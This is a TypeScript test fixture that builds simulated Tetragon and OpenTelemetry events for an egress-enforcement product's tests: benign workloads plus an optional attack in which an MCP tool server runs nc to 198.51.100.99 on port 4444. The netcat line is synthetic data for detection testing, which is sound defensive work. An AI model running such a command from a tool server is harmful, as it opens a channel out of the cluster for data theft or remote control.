/**
 * Scenarios for the enforcement tests, built with the product builders (our own data, real wire
 * formats): the benign hour, plus
 * - a benign flow the learning window misses: checkout's Java process (running since before the
 *   stream) uploads a report to 10.0.40.7:9000 at minutes 40 and 50;
 * - an agent whose OTel HTTP client spans show what it calls (travel-agent → the model endpoint and
 *   a weather API), every five minutes;
 * - a Redis StatefulSet that makes no egress at all;
 * - optionally, an attack in a story: kb-tools' MCP server runs nc to 198.51.100.99:4444 at minute 45.
 */
import { writeFileSync } from 'node:fs';
import { join } from 'node:path';
import {
  hex,
  otlpRequest,
  pod,
  proc,
  tetragonConnect,
  tetragonExec,
  tetragonFile,
  type SpanSpec,
} from '../../../src/demo/builders.ts';
import type { ScenarioInput } from '../../../src/demo/scenario.ts';
import { cast } from '../../../src/demo/scenarios.ts';
import { benignHour } from '../../scenario/scenarios.ts';

export const BASE = Date.parse('2026-11-20T10:00:00Z');
const MINUTE = 60_000;
const line = (at: number, body: string): ScenarioInput => ({ at, input: 'tetragon', body: body + '\n' });

/** The travel agent (OTel HTTP client spans only: no kernel sensor on its node). */
export const travelAgent = pod('aks-demo', 'agents', 'travel-agent', 0);

function httpSpan(at: number, seed: string, method: string, host: string, path: string, template?: string): SpanSpec {
  return {
    traceId: hex(`trace:${seed}`, 32),
    spanId: hex(`span:${seed}`, 16),
    name: `${method} ${template ?? path}`,
    kind: 3,
    start: at,
    end: at + 400,
    attributes: {
      'http.request.method': method,
      'server.address': host,
      'server.port': 443,
      'url.scheme': 'https',
      'url.full': `https://${host}${path}?api-version=2024-10-21`,
      'url.path': path,
      ...(template ? { 'url.template': template } : {}),
      'http.response.status_code': 200,
    },
  };
}

/** Every five minutes: a chat completion, and a forecast for a city (a templated path). */
export function travelAgentCalls(from: number, to: number): ScenarioInput[] {
  const out: ScenarioInput[] = [];
  const cities = ['lisbon', 'oslo', 'kyoto'];
  for (let t = from, i = 0; t < to; t += 5 * MINUTE, i++) {
    out.push({
      at: t + 2000,
      input: 'otlp',
      body: otlpRequest(travelAgent, [
        httpSpan(
          t,
          `chat${i}`,
          'POST',
          'contoso-openai.openai.azure.com',
          '/openai/deployments/gpt-4o/chat/completions',
        ),
        httpSpan(
          t + 800,
          `weather${i}`,
          'GET',
          'api.weather.example',
          `/v1/forecast/${cities[i % 3]}`,
          '/v1/forecast/{city}',
        ),
      ]),
    });
  }
  return out;
}

/** The benign flow the learning window misses: checkout's long-running Java uploads a report. */
export function reportUploads(): ScenarioInput[] {
  const checkout = cast('aks-demo').checkout[0]!;
  const java = proc(checkout, 1, '/opt/java/openjdk/bin/java', '-jar /app/app.jar', BASE - 7_200_000);
  return [40, 50].map((m) => line(BASE + m * MINUTE, tetragonConnect(java, BASE + m * MINUTE, '10.0.40.7', 9000)));
}

/** The silent workload: a Redis cache that makes no egress at all (reads its data, answers probes). */
export function silentCache(): ScenarioInput[] {
  const redis = pod('aks-demo', 'cache', 'redis', 0, { kind: 'StatefulSet', container: 'redis' });
  const server = proc(redis, 1, '/usr/local/bin/redis-server', '*:6379', BASE - 86_400_000);
  const out: ScenarioInput[] = [];
  for (let t = BASE + 5000, i = 0; t < BASE + 60 * MINUTE; t += MINUTE, i++) {
    out.push(line(t, tetragonFile(server, t, '/data/dump.rdb')));
    const probe = proc(redis, 3000 + i, '/usr/local/bin/redis-cli', 'ping', t + 100);
    out.push(line(t + 100, tetragonExec(probe)));
  }
  return out;
}

/** The attack: kb-tools' MCP server (Python, running since before the stream) runs nc to a new address. */
export function ncFromTool(): ScenarioInput[] {
  const kb = cast('aks-demo').kbTools;
  const python = proc(kb, 1, '/usr/local/bin/python3', '-m kb_tools.server', BASE - 3_600_000);
  const at = BASE + 45 * MINUTE;
  const nc = proc(kb, 7001, '/usr/bin/nc', '198.51.100.99 4444', at, python);
  return [line(at, tetragonExec(nc)), line(at + 50, tetragonConnect(nc, at + 50, '198.51.100.99', 4444))];
}

export function scenario(options: { attack?: boolean } = {}): ScenarioInput[] {
  return [
    ...benignHour('aks-demo', BASE),
    ...reportUploads(),
    ...travelAgentCalls(BASE + MINUTE, BASE + 60 * MINUTE),
    ...silentCache(),
    ...(options.attack ? ncFromTool() : []),
  ].sort((a, b) => a.at - b.at);
}

/** The scenario as a replay file: one JSON record a line, Tetragon and OTLP mixed, in arrival order. */
export function writeScenarioFile(dir: string, inputs: readonly ScenarioInput[], name = 'scenario.jsonl'): string {
  const file = join(dir, name);
  writeFileSync(file, inputs.map((i) => i.body.trim() + '\n').join(''));
  return file;
}
